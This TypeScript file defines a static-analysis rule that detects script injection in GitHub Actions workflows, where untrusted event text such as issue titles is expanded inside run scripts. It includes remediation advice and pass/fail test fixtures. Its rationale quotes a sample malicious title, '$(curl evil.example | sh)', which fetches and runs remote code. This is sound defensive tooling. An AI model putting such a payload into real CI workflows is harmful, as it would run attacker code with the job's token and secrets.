import { defineRule, type Evidence, type Finding, type Flow, flowsIn, judge, type PlacedStep, type PlacedText, type Setting } from 'policy-audit';
import { workflow } from './shared/examples.ts';
import { inputsFilledIn, settingsBehind } from './shared/filled-in.ts';
import { freeText, inputName, sentText } from './shared/untrusted.ts';

/** Inputs of actions that are run as code, by the name of the action. */
const codeInputs: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['appleboy/ssh-action', ['script']],
  ['addnab/docker-run-action', ['run']],
  ['nick-fields/retry', ['command', 'on_retry_command']],
  ['nick-invision/retry', ['command']],
  ['cloudflare/wrangler-action', ['command', 'precommands', 'postcommands']],
  ['reactivecircus/android-emulator-runner', ['script']],
  ['devcontainers/ci', ['runcmd']],
  ['8398a7/action-slack', ['custom_payload']],
  ['amadevus/pwsh-script', ['script']],
  ['jannekem/run-python-script-action', ['script']],
  ['mikefarah/yq', ['cmd']],
]);

const scriptsOf = ({ step }: PlacedStep): readonly PlacedText[] => {
  const name = step.uses?.value.toLowerCase().replace(/@.*/, '') ?? '';
  const inputs = step.with.filter((setting) => codeInputs.get(name)?.includes(setting.name.toLowerCase())).map(({ value }) => value);
  return step.run ? [step.run, ...inputs] : inputs;
};

type FilledIn = ReturnType<typeof inputsFilledIn>;

const judgeFlow = (placed: PlacedStep, flow: Flow, isFilledIn: FilledIn, followed = false): Finding | undefined => {
  const { path } = placed;
  const at = { path, line: flow.line, column: flow.column };
  const text = freeText(flow);
  if (text) return { message: `${text} is expanded inside a script, so its text runs as code.`, at };
  const sent = sentText(flow);
  if (sent) return { message: `${sent} is expanded inside a script, so its text runs as code.`, at, severity: 'medium' };
  const input = inputName(flow);
  if (input !== undefined && isFilledIn(placed, input)) return { message: `The input "${input}" is expanded inside a script, so its text runs as code.`, at, severity: 'medium' };
  if (followed) return undefined;
  for (const setting of [...outputBehind(placed, flow), ...settingsBehind(placed, flow)]) {
    const behind = flowsIn(setting.value).flatMap((each) => judgeFlow(placed, each, isFilledIn, true) ?? [])[0];
    if (behind) return { ...behind, at, related: [{ at: behind.at, note: `${flow.path.join('.')} is set here` }] };
  }
  return undefined;
};

/** `needs.JOB.outputs.NAME`. What the steps of that job write into it nobody can tell. */
const outputBehind = ({ workflow: owner }: PlacedStep, { path: [context, job, key, ...names] }: Flow): readonly Setting[] =>
  context === 'needs' && key === 'outputs'
    ? (owner?.jobs.find(({ id }) => id.toLowerCase() === job)?.outputs.filter(({ name }) => name.toLowerCase() === names.join('.')) ?? [])
    : [];

export default defineRule({
  id: 'ci/workflow-script-injection',
  title: 'Untrusted text reaches scripts only through variables',
  severity: 'high',
  rationale: 'An expression is put into the script before the shell starts. A title such as $(curl evil.example | sh) then runs with the token and the secrets of the job.',
  remediation: 'Pass the value in an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
  practices: ['ci/no-template-injection'],
  references: [
    { standard: 'OSPS Baseline', control: 'OSPS-BR-01.01', url: 'https://baseline.openssf.org/' },
    { standard: 'CWE', control: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' },
    { standard: 'GitHub', control: 'Script injections', url: 'https://docs.github.com/en/actions/concepts/security/script-injections' },
  ],
  since: '0.1.0',
  needs: ['workflows'],
  check({ workflows }) {
    const findings: Finding[] = [];
    const evidence: Evidence[] = [];
    const isFilledIn = inputsFilledIn(workflows);
    for (const placed of workflows.steps) {
      const scripts = scriptsOf(placed);
      const found = scripts.flatMap((script) => flowsIn(script).flatMap((flow) => judgeFlow(placed, flow, isFilledIn) ?? []));
      findings.push(...found);
      const [script] = scripts;
      if (script && found.length === 0) evidence.push({ at: { path: placed.path, line: script.line, column: script.column }, note: 'a script without free text of an event' });
    }
    return judge(findings, evidence, 'No workflow or action of this repository runs a script.');
  },
  examples: {
    bad: [
      {
        name: 'the title of an issue',
        files: workflow('      - run: |\n          make\n          echo "${{ github.event.issue.title }}"\n'),
        expect: { fail: ['.github/workflows/ci.yml:9'] },
      },
      { name: 'the whole event', files: workflow("      - run: echo '${{ toJSON(github.event) }}'\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
    ],
    good: [
      { name: 'through a variable', files: workflow('      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "$T"\n'), expect: 'pass' },
      { name: 'only compared', files: workflow("      - run: echo ${{ github.head_ref == 'main' && 'yes' || 'no' }}\n"), expect: 'pass' },
      { name: 'no scripts', files: workflow('      - uses: ./setup\n'), expect: 'not-applicable' },
    ],
  },
});
